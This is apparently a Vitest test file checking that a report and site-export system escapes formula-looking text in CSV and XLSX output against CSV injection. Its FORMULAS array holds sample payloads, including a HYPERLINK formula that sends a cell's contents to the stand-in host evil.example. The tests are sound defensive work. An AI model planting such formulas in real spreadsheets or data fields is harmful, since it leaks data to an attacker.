import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { reportCsv } from '../../../server/reports/csv.ts';
import { buildReportModel } from '../../../common/report/report-model.ts';
import { reportXlsx } from '../../../server/reports/xlsx.ts';
import { exportCsv } from '../../../server/exporters/csv.ts';
import { REPORT_INPUT, WATER_SOURCE_RESULT } from '../../common/report/check-result-fixture.ts';

/**
 * Issue 11 row 10: user text that a spreadsheet runs as a formula (=HYPERLINK in a project name, a
 * feature name or a 审查意见) reached CSV cells unchanged. A leading ' keeps it text, as OWASP's
 * CSV-injection advice says; numbers, negative ones too, stay numbers.
 */
const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"点此")', '+1+cmd', '-2+3', '@SUM(A1)', '\t=1', '\r=1'];

describe('formula escaping in CSV (report and site export)', () => {
  it('report CSV: every formula-looking text gets a leading quote; a negative number does not', () => {
    const rows = [
      { cells: [FORMULAS[0], FORMULAS[1], FORMULAS[2], FORMULAS[3], FORMULAS[4], FORMULAS[5], -12.5] },
    ];
    const csv = reportCsv({ table: { columns: rows[0].cells.map((_, i) => ({ label: `c${i}` })), rows }, review: undefined } as never);
    const parsed = parse(csv, { bom: true, relax_quotes: true, relax_column_count: true }) as string[][];
    expect(parsed[1]).toEqual([...FORMULAS.map((f) => `'${f}`), '-12.5']);
  });

  it('report CSV of a feature named like a formula, through the report model', () => {
    const result = { ...WATER_SOURCE_RESULT, results: WATER_SOURCE_RESULT.results.map((r) => ({ ...r, features: r.features.map((f) => ({ ...f, name: FORMULAS[0] })) })) };
    const csv = reportCsv(buildReportModel({ ...REPORT_INPUT, result }));
    expect(csv).not.toMatch(/(^|,|")=HYPERLINK/m);
    expect(csv).toContain("'=HYPERLINK");
  });

  it('site export CSV: a name like a formula is escaped, coordinates keep their decimals', () => {
    const site = {
      type: 'FeatureCollection',
      features: [{ type: 'Feature', properties: { name: FORMULAS[0] }, geometry: { type: 'Point', coordinates: [106.66, 26.41] } }],
    } as never;
    const text = exportCsv(site).body.toString('utf8');
    const rows = parse(text, { bom: true }) as string[][];
    expect(rows[1]).toEqual(['1', `'${FORMULAS[0]}`, '1', '1', '1', '106.660000000', '26.410000000']);
  });

  it('XLSX: formula-looking text is a string cell, never a formula', async () => {
    const result = { ...WATER_SOURCE_RESULT, results: WATER_SOURCE_RESULT.results.map((r) => ({ ...r, features: r.features.map((f) => ({ ...f, name: FORMULAS[0] })) })) };
    const book = new ExcelJS.Workbook();
    await book.xlsx.load((await reportXlsx(buildReportModel({ ...REPORT_INPUT, siteName: FORMULAS[0], result }))) as unknown as ArrayBuffer);
    const cells: ExcelJS.Cell[] = [];
    book.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((cell) => cells.push(cell))));
    const formulaLike = cells.filter((c) => String(c.value).includes('HYPERLINK'));
    expect(formulaLike.length).toBeGreaterThan(0);
    for (const c of formulaLike) expect(c.type).toBe(ExcelJS.ValueType.String);
  });
});
